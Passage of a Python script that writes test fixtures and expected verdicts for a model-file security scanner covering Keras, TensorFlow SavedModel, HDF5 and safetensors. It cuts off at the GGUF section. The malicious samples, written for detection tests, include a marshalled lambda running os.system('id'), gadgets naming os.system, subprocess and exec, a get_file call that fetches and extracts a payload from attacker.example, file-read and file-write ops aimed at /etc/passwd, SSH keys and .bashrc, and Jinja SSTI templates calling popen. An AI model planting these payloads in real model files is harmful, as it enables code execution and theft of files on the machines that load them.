#!/usr/bin/python3
"""Writes the Keras/TensorFlow and "safe format" model-file fixtures of
tests/corpus/artifacts/keras/ and their expected.json.

No Keras, TensorFlow, safetensors, gguf or onnx package is used (none is
packaged in Debian 12): every file is written from its published format.
  - config/*.json      Keras model configs (Keras 3 .keras config.json and
                       legacy tf.keras model_config documents)
  - keras/*.keras      .keras v3 zips: config.json, metadata.json,
                       model.weights.h5 (stored, not deflated)
  - h5/*.h5            legacy Keras HDF5 models, written with Debian's
                       python3-h5py (apt-get install python3-h5py): compact
                       attributes (libver earliest: superblock 0, object
                       header 1) and dense attribute storage (libver latest:
                       fractal heap managed and huge objects, v2 B-trees)
  - savedmodel/*/      saved_model.pb and keras_metadata.pb from a small
                       protobuf encoder (below)
  - safetensors/, gguf/, onnx/  written by hand from their specifications

Lambda payloads are real marshalled code objects (marshal.dumps of a
lambda's __code__) of the Python running this script; nothing here runs
them. Run with Debian's python3 (for h5py):

    /usr/bin/python3 tests/artifacts/generate_keras.py

expected.json maps each file (relative path; for .keras zips, each member)
to the format, verdict and sorted [check, subject] pairs the readers must
report (tests/unit/test_art_keras.c compares them exactly).
"""
import base64
import codecs
import json
import marshal
import os
import shutil
import struct
import sys
import zipfile

try:
    import h5py
    import numpy as np
except ImportError:
    sys.exit("generate_keras.py needs h5py and numpy: apt-get install python3-h5py "
             "(and run it with /usr/bin/python3)")

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = os.path.join(ROOT, "tests", "corpus", "artifacts", "keras")
EXPECTED = {}


def expect(rel, fmt, verdict, checks, member=None):
    """Records what the readers must report for rel (or its member)."""
    entry = {"format": fmt, "verdict": verdict,
             "checks": sorted([list(c) for c in checks])}
    if member is None:
        EXPECTED[rel] = entry
    else:
        EXPECTED.setdefault(rel, {"members": {}})["members"][member] = entry


def write(rel, data):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


# ---------------------------------------------------------------------------
# Lambda bytecode (Keras func_dump: base64 of marshal.dumps(code), with
# newlines every 76 characters)

def func_dump(fn):
    return codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")


EVIL_LAMBDA = func_dump(lambda x: __import__("os").system("id") or x)
PLAIN_LAMBDA = func_dump(lambda x: x * 2)


# ---------------------------------------------------------------------------
# Keras configs

def k3(module, cls, config, registered=None, **extra):
    """A Keras 3 serialized object."""
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    d.update(extra)
    return d


def dtype():
    return k3("keras", "DTypePolicy", {"name": "float32"})


def dense(name, units, activation="relu"):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": dtype(), "units": units,
        "activation": activation, "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_config={"input_shape": [None, 4]})


def sequential(layers, name="sequential"):
    return k3("keras", "Sequential", {
        "name": name, "trainable": True, "dtype": dtype(),
        "layers": [k3("keras.layers", "InputLayer", {"batch_shape": [None, 4],
                                                     "dtype": "float32", "sparse": False,
                                                     "name": "input_layer"})] + layers},
        build_config={"input_shape": [None, 4]},
        compile_config={"optimizer": k3("keras.optimizers", "Adam",
                                        {"name": "adam", "learning_rate": 0.001}),
                        "loss": "mean_squared_error", "metrics": ["mae"]})


def legacy_sequential(layers):
    """A tf.keras (Keras 2) model_config: no module fields."""
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4],
                                                "dtype": "float32", "name": "input_1"}}]
        + layers}}


def legacy_dense(name, units):
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "units": units, "activation": "relu",
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}}}


def legacy_lambda(name, code):
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32",
        "function": [code, None, None], "function_type": "lambda", "module": "__main__",
        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
        "arguments": {}}}


def k3_lambda(name, code):
    return k3("keras.layers", "Lambda", {
        "name": name, "trainable": True, "dtype": dtype(),
        "function": {"class_name": "__lambda__",
                     "config": {"code": code, "defaults": None, "closure": None}},
        "arguments": {}}, build_config={"input_shape": [None, 4]})


def functional_benign():
    """A Keras 3 functional model, with __keras_tensor__ markers."""
    def kt(layer):
        return {"class_name": "__keras_tensor__",
                "config": {"shape": [None, 4], "dtype": "float32",
                           "keras_history": [layer, 0, 0]}}
    return k3("keras", "Functional", {
        "name": "functional", "trainable": True,
        "layers": [
            k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32",
                                              "name": "in"}, name="in", inbound_nodes=[]),
            dict(dense("hidden", 8), name="hidden",
                 inbound_nodes=[{"args": [kt("in")], "kwargs": {}}]),
            k3("keras.layers", "Activation", {
                "name": "act", "activation": k3("keras.activations", "function", "softmax",
                                                registered="function")},
               name="act", inbound_nodes=[{"args": [kt("hidden")], "kwargs": {}}]),
        ],
        "input_layers": [["in", 0, 0]], "output_layers": [["act", 0, 0]]})


def gen_configs():
    def cfg(name, doc, verdict, checks, raw=None):
        rel = "config/" + name
        write(rel, raw if raw is not None else json.dumps(doc, indent=1).encode())
        expect(rel, "keras-config", verdict, checks)

    cfg("benign_sequential.json", sequential([dense("dense", 8), dense("out", 1, "linear")]),
        "safe", [])
    cfg("benign_functional.json", functional_benign(), "safe", [])
    cfg("benign_legacy.json", legacy_sequential([legacy_dense("dense", 8)]), "safe", [])
    # NaN and Infinity, as Python's json writes them
    cfg("benign_nan.json", None, "safe", [], raw=json.dumps(
        sequential([dense("dense", 8)]) | {"note": float("nan"), "cap": float("-inf")}).encode())
    # CVE-2024-3660: marshalled bytecode in a Lambda
    cfg("lambda_keras3.json", sequential([k3_lambda("evil", EVIL_LAMBDA)]), "malicious",
        [("keras-lambda", "Lambda")])
    cfg("lambda_legacy.json", legacy_sequential([legacy_lambda("evil", EVIL_LAMBDA)]),
        "malicious", [("keras-lambda", "Lambda")])
    # keras_metadata-style tuple form, and an output_shape lambda
    tup = legacy_lambda("tuple", None)
    tup["config"]["function"] = {"class_name": "__tuple__", "items": [PLAIN_LAMBDA, None, None]}
    tup["config"]["output_shape"] = [PLAIN_LAMBDA, None, None]
    tup["config"]["output_shape_type"] = "lambda"
    cfg("lambda_tuple.json", legacy_sequential([tup]), "malicious",
        [("keras-lambda", "Lambda"), ("keras-lambda", "Lambda")])
    # CVE-2025-1550: a config naming any module's function
    evil_act = dense("dense", 8, k3("os", "function", "system", registered="function"))
    popen = k3("subprocess", "Popen", {"args": ["id"]})
    cfg("dangerous_module.json", sequential([evil_act, popen]), "malicious",
        [("keras-dangerous-target", "os.system"), ("keras-dangerous-target", "subprocess.Popen")])
    # Keras 2 Lambda with a named function in an imported module
    named = legacy_lambda("named", None)
    named["config"]["function"] = "system"
    named["config"]["function_type"] = "function"
    named["config"]["module"] = "os"
    cfg("lambda_named_os.json", legacy_sequential([named]), "malicious",
        [("keras-dangerous-target", "os.system")])
    # CVE-2025-8747: keras.utils.get_file as a Lambda function
    gf = k3("keras.layers", "Lambda", {
        "name": "download", "function": k3("keras.utils", "function", "get_file",
                                           registered="function"),
        "arguments": {"origin": "https://attacker.example/payload.tar.gz", "extract": True}})
    cfg("get_file_gadget.json", sequential([gf]), "malicious",
        [("keras-dangerous-target", "keras.utils.get_file")])
    # CVE-2025-9906: switch safe mode off, then a Lambda
    toggle = k3("keras.layers", "Lambda", {
        "name": "unsafe", "function": k3("keras.config", "function",
                                         "enable_unsafe_deserialization",
                                         registered="function"), "arguments": {}})
    cfg("unsafe_toggle.json", sequential([toggle, k3_lambda("evil", EVIL_LAMBDA)]), "malicious",
        [("keras-unsafe-deserialization", "keras.config.enable_unsafe_deserialization"),
         ("keras-lambda", "Lambda")])
    gsa = k3("keras.layers", "Lambda", {
        "name": "gsa", "function": k3("keras.src.backend.common.global_state", "function",
                                      "set_global_attribute", registered="function"),
        "arguments": {"name": "safe_mode_saving", "value": False}})
    cfg("set_global_attribute.json", sequential([gsa]), "malicious",
        [("keras-unsafe-deserialization",
          "keras.src.backend.common.global_state.set_global_attribute")])
    # custom objects: warnings
    cfg("custom_object.json", sequential([
        k3("my_pkg.layers", "MyLayer", {"name": "mine"}, registered="MyPkg>MyLayer"),
        dense("dense", 4, k3("__main__", "function", "my_activation",
                             registered="my_activation"))]),
        "suspicious", [("keras-custom-object", "my_pkg.layers.MyLayer"),
                       ("keras-custom-object", "__main__.my_activation")])
    cfg("custom_legacy.json", legacy_sequential([
        {"class_name": "AttentionBlock", "config": {"name": "att"}},
        {"class_name": "Addons>GELU", "config": {"name": "gelu"}}]),
        "suspicious", [("keras-custom-object", "AttentionBlock"),
                       ("keras-custom-object", "Addons>GELU")])
    cfg("registered_keras_hub.json", sequential([
        k3("keras_hub.src.models.bert.bert_backbone", "BertBackbone", {"name": "bert"},
           registered="keras_hub>BertBackbone")]), "safe", [])
    # TFSMLayer (CVE-2026-1462) and file-reading lookup layers
    cfg("external_refs.json", sequential([
        k3("keras.layers", "TFSMLayer", {"name": "sm", "filepath": "/srv/models/other",
                                         "call_endpoint": "serve"}),
        k3("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"}),
        k3("keras.layers", "StringLookup", {"name": "inline", "vocabulary": ["a", "b"]})]),
        "suspicious", [("keras-savedmodel-layer", "/srv/models/other"),
                       ("keras-file-reference", "/etc/passwd")])
    # TF op layers of tf.keras
    cfg("tf_op_layers.json", legacy_sequential([
        {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file",
                                                "function": "io.write_file"}},
        {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "function": "math.add"}},
        {"class_name": "TensorFlowOpLayer", "config": {
            "name": "ReadFile", "node_def": {"name": "ReadFile", "op": "ReadFile",
                                             "input": ["path"]}}}]),
        "malicious", [("keras-dangerous-target", "tensorflow.io.write_file"),
                      ("tf-file-read-op", "ReadFile")])
    # shared objects that disagree
    a = dict(dense("a", 4), shared_object_id=7)
    b = dict(k3("keras.layers", "Dropout", {"name": "b", "rate": 0.1}), shared_object_id=7)
    cfg("shared_mismatch.json", sequential([a, b]), "suspicious",
        [("keras-shared-object-mismatch", "Dropout")])
    # duplicate keys: Python keeps the last "module"
    dup = ('{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": '
           '[{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", '
           '"units": 1, "activation": {"module": "keras.activations", "module": "builtins", '
           '"class_name": "function", "config": "exec", "registered_name": "function"}}}]}}')
    cfg("duplicate_key.json", None, "malicious", [("keras-dangerous-target", "builtins.exec")],
        raw=dup.encode())
    cfg("nul_escape.json", None, "unscannable", [("malformed", None)],
        raw=b'{"class_name": "Sequential", "module\\u0000": "os", "config": {}}')
    cfg("truncated.json", None, "unscannable", [("malformed", None)],
        raw=json.dumps(sequential([dense("d", 1)])).encode()[:300])
    cfg("deep.json", None, "unscannable", [("limit", None)],
        raw=b'{"class_name": "Sequential", "config": ' + b"[" * 200 + b"]" * 200 + b"}")


# ---------------------------------------------------------------------------
# HDF5 (h5py)

def h5_create(full, libver):
    """An h5py File whose root group records no times (reproducible bytes)."""
    fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
    fcpl.set_obj_track_times(False)
    fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
    low = h5py.h5f.LIBVER_LATEST if libver == "latest" else h5py.h5f.LIBVER_EARLIEST
    fapl.set_libver_bounds(low, h5py.h5f.LIBVER_LATEST)
    fid = h5py.h5f.create(full.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl, fapl=fapl)
    return h5py.File(fid)


def gen_h5(path, attrs, libver="earliest", fixed=(), datasets=False):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with h5_create(full, libver) as f:
        for k, v in attrs.items():
            f.attrs[k] = np.bytes_(v.encode()) if k in fixed else v
        if datasets:
            g = f.create_group("layers/dense/vars", track_order=False)
            g.create_dataset("0", data=np.zeros((4, 2), dtype="float32"), track_times=False)
            g.create_dataset("1", data=np.zeros((2,), dtype="float32"), track_times=False)


def gen_hdf5():
    benign = json.dumps(legacy_sequential([legacy_dense("dense", 8)]))
    evil = json.dumps(legacy_sequential([legacy_lambda("evil", EVIL_LAMBDA)]))
    training = json.dumps({"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper",
                                                         "config": {"name": "mae",
                                                                    "fn": "mae"}}]],
                           "optimizer_config": {"class_name": "Adam",
                                                "config": {"learning_rate": 0.001}}})
    note = ("keras-h5-legacy", "2.15.0")
    gen_h5("h5/benign_compact.h5", {"model_config": benign, "training_config": training,
                                    "keras_version": "2.15.0", "backend": "tensorflow"},
           datasets=True)
    expect("h5/benign_compact.h5", "keras-h5", "safe", [note])
    gen_h5("h5/lambda_compact.h5", {"model_config": evil, "keras_version": "2.15.0",
                                    "backend": "tensorflow"})
    expect("h5/lambda_compact.h5", "keras-h5", "malicious", [note, ("keras-lambda", "Lambda")])
    # fixed-length byte strings, as older Keras wrote them (.encode("utf8"))
    gen_h5("h5/lambda_fixed.h5", {"model_config": evil, "keras_version": "2.4.0"},
           fixed=("model_config", "keras_version"))
    expect("h5/lambda_fixed.h5", "keras-h5", "malicious",
           [("keras-h5-legacy", "2.4.0"), ("keras-lambda", "Lambda")])
    # dense storage, huge object: a fixed-length model_config over the heap's
    # 4 KiB managed-object limit (and over 64 KiB, which compact storage
    # cannot hold)
    big = json.loads(evil)
    big["config"]["padding"] = "p" * 70000
    gen_h5("h5/lambda_dense_huge.h5", {"model_config": json.dumps(big),
                                       "keras_version": "2.11.0"},
           libver="latest", fixed=("model_config", "keras_version"))
    expect("h5/lambda_dense_huge.h5", "keras-h5", "malicious",
           [("keras-h5-legacy", "2.11.0"), ("keras-lambda", "Lambda")])
    # dense storage, managed objects: more than 8 attributes (the compact
    # maximum) and a model_config of ~1 KiB; 40 attributes make the name
    # index B-tree two levels deep
    attrs = {"attr_%03d" % i: "v" * (i % 17) for i in range(40)}
    attrs.update({"model_config": json.dumps(legacy_sequential([
        {"class_name": "CustomBlock", "config": {"name": "c"}}])),
        "keras_version": "2.13.1", "backend": "tensorflow"})
    gen_h5("h5/custom_dense_managed.h5", attrs, libver="latest",
           fixed=("model_config", "keras_version"))
    expect("h5/custom_dense_managed.h5", "keras-h5", "suspicious",
           [("keras-h5-legacy", "2.13.1"), ("keras-custom-object", "CustomBlock")])
    gen_h5("h5/weights_only.h5", {}, datasets=True)
    expect("h5/weights_only.h5", "hdf5", "safe", [])
    # truncated: the global heap holding the strings is cut off
    with open(os.path.join(OUT, "h5/benign_compact.h5"), "rb") as f:
        data = f.read()
    write("h5/truncated.h5", data[:1200])
    expect("h5/truncated.h5", "keras-h5", "unscannable",
           [("keras-h5-legacy", "unknown"), ("malformed", None)])
    write("h5/not_hdf5.h5", b"this is not an HDF5 file\n" * 4)
    expect("h5/not_hdf5.h5", "hdf5", "unscannable", [("malformed", None)])


# ---------------------------------------------------------------------------
# A protobuf encoder (wire format only)

def varint(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def f_varint(num, v):
    return varint(num << 3) + varint(v)


def f_bytes(num, data):
    if isinstance(data, str):
        data = data.encode()
    return varint((num << 3) | 2) + varint(len(data)) + data


def msg(*parts):
    return b"".join(parts)


# TensorFlow messages
def attr_s(s):
    return f_bytes(2, s)


def attr_type(t):
    return f_varint(6, t)


def attr_tensor_string(s):
    # AttrValue.tensor = TensorProto{dtype: DT_STRING (7), string_val: s}
    return f_bytes(8, msg(f_varint(1, 7), f_bytes(8, s)))


def attr_list_s(*items):
    return f_bytes(1, msg(*[f_bytes(2, s) for s in items]))


def node(name, op, inputs=(), attrs=None):
    parts = [f_bytes(1, name), f_bytes(2, op)] + [f_bytes(3, i) for i in inputs]
    for k, v in (attrs or {}).items():
        parts.append(f_bytes(5, msg(f_bytes(1, k), f_bytes(2, v))))
    return msg(*parts)


def const_str(name, value):
    return node(name, "Const", attrs={"value": attr_tensor_string(value), "dtype": attr_type(7)})


def function(name, nodes):
    return msg(f_bytes(1, msg(f_bytes(1, name))), *[f_bytes(3, n) for n in nodes])


def graph(nodes, functions=()):
    lib = msg(*[f_bytes(1, fn) for fn in functions])
    return msg(*[f_bytes(1, n) for n in nodes], f_bytes(4, f_varint(1, 1286)),
               *([f_bytes(2, lib)] if functions else []))


def saved_model(graph_def, object_graph=None, saver_filename=None, assets=()):
    mg = msg(f_bytes(1, msg(f_bytes(4, "serve"))), f_bytes(2, graph_def),
             *([f_bytes(3, f_bytes(1, saver_filename))] if saver_filename else []),
             *[f_bytes(6, msg(f_bytes(1, f_bytes(1, t)), f_bytes(2, fn))) for t, fn in assets],
             *([f_bytes(7, object_graph)] if object_graph else []))
    return msg(f_varint(1, 1), f_bytes(2, mg))


def standard_saver():
    """What every SavedModel holds: a TF1 saver in the graph (relative
    "model" default) and TF2 traced save/restore functions (path from an
    argument)."""
    g_nodes = [
        node("x", "Placeholder", attrs={"dtype": attr_type(1)}),
        node("w", "VarHandleOp", attrs={"dtype": attr_type(1)}),
        node("y", "MatMul", ["x", "w"]),
        const_str("save/Const", "model"),
        node("save/SaveV2", "SaveV2", ["save/Const", "save/tensor_names", "save/shapes", "w"]),
        node("save/RestoreV2", "RestoreV2", ["save/Const", "save/tensor_names", "save/shapes"]),
        node("saver_filename", "Placeholder", attrs={"dtype": attr_type(7)}),
        node("StatefulPartitionedCall", "StatefulPartitionedCall", ["saver_filename"]),
    ]
    save_fn = function("__inference__traced_save_45", [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"]),
        const_str("Const", ".part"),
        const_str("Const_1", "_temp/part"),
        node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0",
                                  "Const_1:output:0"]),
        node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"]),
        node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "num_shards"]),
        node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "names", "slices", "w"]),
        node("MergeV2Checkpoints", "MergeV2Checkpoints",
             ["MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"]),
    ])
    restore_fn = function("__inference__traced_restore_80", [
        node("RestoreV2", "RestoreV2", ["file_prefix", "names", "slices"]),
    ])
    return g_nodes, [save_fn, restore_fn]


def keras_layer_meta(cls, config, **extra):
    d = {"name": config.get("name", "layer"), "trainable": True, "expects_training_arg": False,
         "dtype": "float32", "batch_input_shape": None, "stateful": False,
         "must_restore_from_config": False, "class_name": cls, "config": config,
         "build_input_shape": {"class_name": "TensorShape", "items": [None, 4]}}
    d.update(extra)
    return json.dumps(d)


def gen_savedmodel():
    g_nodes, fns = standard_saver()
    write("savedmodel/benign/saved_model.pb", saved_model(graph(g_nodes, fns)))
    expect("savedmodel/benign/saved_model.pb", "tf-savedmodel", "safe", [])

    bad = g_nodes + [
        const_str("path", "/etc/passwd"),
        node("ReadFile", "ReadFile", ["path"]),
        node("files", "MatchingFiles", ["pattern"]),
    ]
    drop = function("__inference_call_99", [
        const_str("target", "/home/user/.bashrc"),
        node("WriteFile", "WriteFile", ["target:output:0", "contents"]),
        node("log", "PrintV2", ["msg"], {"output_stream": attr_s("file:///tmp/exfil.log")}),
        node("quiet", "PrintV2", ["msg"], {"output_stream": attr_s("stderr")}),
    ])
    write("savedmodel/file_ops/saved_model.pb", saved_model(graph(bad, fns + [drop])))
    expect("savedmodel/file_ops/saved_model.pb", "tf-savedmodel", "suspicious",
           [("tf-file-read-op", "ReadFile"), ("tf-file-read-op", "MatchingFiles"),
            ("tf-file-write-op", "WriteFile"), ("tf-file-write-op", "PrintV2")])

    py = function("__inference_pyfunc_7", [
        node("PyFunc", "PyFunc", ["x"], {"token": attr_s("pyfunc_0")}),
        node("EagerPyFunc", "EagerPyFunc", ["x"], {"token": attr_s("pyfunc_1")}),
    ])
    write("savedmodel/pyfunc/saved_model.pb", saved_model(graph(g_nodes, fns + [py])))
    expect("savedmodel/pyfunc/saved_model.pb", "tf-savedmodel", "malicious",
           [("tf-python-op", "PyFunc"), ("tf-python-op", "EagerPyFunc")])

    lit = g_nodes + [
        const_str("ssh", "../../../home/user/.ssh/id_rsa"),
        node("restore_ssh", "RestoreV2", ["ssh", "names", "slices"]),
        const_str("dest", "/tmp/ckpt"),
        node("merge", "MergeV2Checkpoints", ["prefixes", "dest"]),
        const_str("vocab", "gs://bucket/vocab.txt"),
        node("table_init", "InitializeTableFromTextFileV2", ["table", "vocab"]),
        const_str("assets_vocab", "vocab.txt"),
        node("table_init_ok", "InitializeTableFromTextFileV2", ["table", "assets_vocab"]),
    ]
    write("savedmodel/literal_paths/saved_model.pb", saved_model(graph(lit, fns)))
    expect("savedmodel/literal_paths/saved_model.pb", "tf-savedmodel", "suspicious",
           [("tf-literal-path", "../../../home/user/.ssh/id_rsa"),
            ("tf-literal-path", "/tmp/ckpt"), ("tf-literal-path", "gs://bucket/vocab.txt")])

    # a TF2 SavedModel of a tf.keras model: user objects carry Keras metadata
    lam = keras_layer_meta("Lambda", json.loads(
        json.dumps(legacy_lambda("evil", EVIL_LAMBDA)["config"])))
    objs = msg(
        f_bytes(1, f_bytes(4, msg(f_bytes(1, "_tf_keras_network"),
                                  f_bytes(3, keras_layer_meta("Sequential", {"name": "seq"}))))),
        f_bytes(1, f_bytes(4, msg(f_bytes(1, "_tf_keras_layer"), f_bytes(3, lam)))),
        f_bytes(1, f_bytes(7, b"")))  # a variable
    write("savedmodel/keras_user_object/saved_model.pb",
          saved_model(graph(g_nodes, fns), object_graph=objs))
    expect("savedmodel/keras_user_object/saved_model.pb", "tf-savedmodel", "malicious",
           [("keras-lambda", "Lambda")])

    def metadata(layers):
        return msg(*[f_bytes(1, msg(f_varint(2, i + 1), f_bytes(3, "root.layer-%d" % i),
                                    f_bytes(4, "_tf_keras_layer"), f_bytes(5, meta)))
                     for i, meta in enumerate(layers)])

    dense_meta = keras_layer_meta("Dense", {"name": "dense", "units": 4, "activation": "relu"})
    write("savedmodel/keras_benign/keras_metadata.pb", metadata([dense_meta]))
    expect("savedmodel/keras_benign/keras_metadata.pb", "keras-metadata", "safe", [])
    write("savedmodel/keras_lambda/keras_metadata.pb", metadata([dense_meta, lam]))
    expect("savedmodel/keras_lambda/keras_metadata.pb", "keras-metadata", "malicious",
           [("keras-lambda", "Lambda")])

    # a TF1 export: the saver's filename and the asset paths are Consts
    # holding export-time absolute paths, which the loader replaces
    tf1 = g_nodes + [
        const_str("save/filename", "/tmp/export/variables/variables"),
        node("save/RestoreV2_1", "RestoreV2", ["save/filename", "names", "slices"]),
        const_str("hash_table/Const", "/tmp/export/assets/vocab.txt"),
        node("hash_table/table_init", "InitializeTableFromTextFileV2",
             ["hash_table", "hash_table/Const"]),
    ]
    write("savedmodel/tf1_assets/saved_model.pb",
          saved_model(graph(tf1, fns), saver_filename="save/filename:0",
                      assets=[("hash_table/Const:0", "vocab.txt")]))
    expect("savedmodel/tf1_assets/saved_model.pb", "tf-savedmodel", "safe", [])

    write("savedmodel/malformed/saved_model.pb", b"\x12\xff\xff\xff\x0fnot a protobuf")
    expect("savedmodel/malformed/saved_model.pb", "tf-savedmodel", "unscannable",
           [("malformed", None)])


# ---------------------------------------------------------------------------
# .keras zips

def zip_bytes(members):
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            z.writestr(info, data)
    return buf.getvalue()


def gen_keras_zips():
    tmp = os.path.join(OUT, "keras", "_weights.h5")
    os.makedirs(os.path.dirname(tmp), exist_ok=True)
    with h5_create(tmp, "earliest") as f:
        g = f.create_group("layers/dense/vars", track_order=False)
        g.create_dataset("0", data=np.zeros((4, 8), dtype="float32"), track_times=False)
    with open(tmp, "rb") as fh:
        weights = fh.read()
    os.remove(tmp)
    meta = json.dumps({"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"})
    for name, config, verdict, checks in (
            ("benign.keras", sequential([dense("dense", 8)]), "safe", []),
            ("lambda.keras", sequential([k3_lambda("evil", EVIL_LAMBDA)]), "malicious",
             [("keras-lambda", "Lambda")]),
            ("cve_2025_1550.keras",
             sequential([dense("dense", 8, k3("subprocess", "function", "check_output",
                                               registered="function"))]),
             "malicious", [("keras-dangerous-target", "subprocess.check_output")])):
        rel = "keras/" + name
        write(rel, zip_bytes([("metadata.json", meta), ("config.json", json.dumps(config)),
                              ("model.weights.h5", weights)]))
        expect(rel, "keras-config", verdict, checks, member="config.json")
        expect(rel, "hdf5", "safe", [], member="model.weights.h5")


# ---------------------------------------------------------------------------
# safetensors

def safetensors(tensors, metadata=None, header_override=None, extra=b""):
    header, data, off = {}, b"", 0
    if metadata is not None:
        header["__metadata__"] = metadata
    for name, dtype_, shape, raw in tensors:
        header[name] = {"dtype": dtype_, "shape": shape, "data_offsets": [off, off + len(raw)]}
        data += raw
        off += len(raw)
    h = header_override if header_override is not None else json.dumps(header).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data + extra


def gen_safetensors():
    t = [("weight", "F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)),
         ("bias", "I64", [3], struct.pack("<3q", 1, 2, 3)),
         ("empty", "BF16", [0, 5], b"")]
    write("safetensors/benign.safetensors", safetensors(t, {"format": "pt"}))
    expect("safetensors/benign.safetensors", "safetensors", "safe", [])
    gap = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
           "b": {"dtype": "F32", "shape": [1], "data_offsets": [8, 12]}}
    write("safetensors/gap.safetensors",
          safetensors([], header_override=json.dumps(gap).encode(), extra=b"\0" * 12))
    expect("safetensors/gap.safetensors", "safetensors", "unscannable", [("malformed", None)])
    overlap = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
               "b": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}
    write("safetensors/overlap.safetensors",
          safetensors([], header_override=json.dumps(overlap).encode(), extra=b"\0" * 8))
    expect("safetensors/overlap.safetensors", "safetensors", "unscannable", [("malformed", None)])
    write("safetensors/bad_dtype.safetensors",
          safetensors([("w", "F128", [1], b"\0" * 16)]))
    expect("safetensors/bad_dtype.safetensors", "safetensors", "unscannable",
           [("malformed", None)])
    good = safetensors(t)
    write("safetensors/header_past_end.safetensors",
          struct.pack("<Q", 1 << 20) + good[8:])
    expect("safetensors/header_past_end.safetensors", "safetensors", "unscannable",
           [("malformed", None)])
    write("safetensors/wrong_size.safetensors",
          safetensors([("w", "F16", [3], b"\0" * 4)]))
    expect("safetensors/wrong_size.safetensors", "safetensors", "unscannable",
           [("malformed", None)])


# ---------------------------------------------------------------------------
# GGUF (v3, little-endian)

GGUF_T = {"u8": 0, "i8": 1, "u16": 2, "i16": 3, "u32": 4, "i32": 5, "f32": 6, "bool": 7,
          "str": 8, "arr": 9, "u64": 10, "i64": 11, "f64": 12}
GGUF_FMT = {"u8": "<B", "i8": "<b", "u16": "<H", "i16": "<h", "u32": "<I", "i32": "<i",
            "f32": "<f", "bool": "<?", "u64": "<Q", "i64": "<q", "f64": "<d"}


def gg_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gg_value(t, v):
    if t == "str":
        return gg_str(v)
    if isinstance(t, tuple):  # ("arr", elem_type)
        et = t[1]
        etype = GGUF_T["arr"] if isinstance(et, tuple) else GGUF_T[et]
        return struct.pack("<IQ", etype, len(v)) + b"".join(gg_value(et, x) for x in v)
    return struct.pack(GGUF_FMT[t], v)


def gguf(kvs, tensors, alignment=32):
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs))
    for k, t, v in kvs:
        tid = GGUF_T["arr"] if isinstance(t, tuple) else GGUF_T[t]
        out += gg_str(k) + struct.pack("<I", tid) + gg_value(t, v)
    data, infos = b"", b""
    for name, dims, gtype, raw, off in tensors:
        infos += gg_str(name) + struct.pack("<I", len(dims)) + \
            b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", gtype, off)
        if off + len(raw) > len(data):
            data += b"\0" * (off + len(raw) - len(data))
        data = data[:off] + raw + data[off + len(raw):]
    out += infos
    out += b"\0" * (-len(out) % alignment)
    return out + data


BENIGN_TEMPLATE = (
    "{%- set ns = namespace(system='') -%}"
    "{%- for m in messages -%}{%- if m['role'] == 'system' -%}{%- set ns.system = m['content'] -%}"
    "{%- endif -%}{%- endfor -%}{{ bos_token }}{%- if ns.system %}<|system|>{{ ns.system }}"
    "{% endif -%}{%- for m in messages if m['role'] != 'system' -%}<|{{ m['role'] }}|>"
    "{{ m['content'] | trim }}<|end|>{%- endfor -%}{%- if add_generation_prompt -%}"
    "<|assistant|>{%- endif -%}")
# the CVE-2024-34359 proof of concept's shape
SSTI_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen(\"id\").read() }}{% endif %}"
    "{% endfor %}")
ATTR_TEMPLATE = (
    "{{ (lipsum|attr(\"\\x5f\\x5fglobals\\x5f\\x5f\"))|attr(\"get\")(\"os\")"
    "|attr(\"popen\")(\"id\") }}")


def gen_gguf():
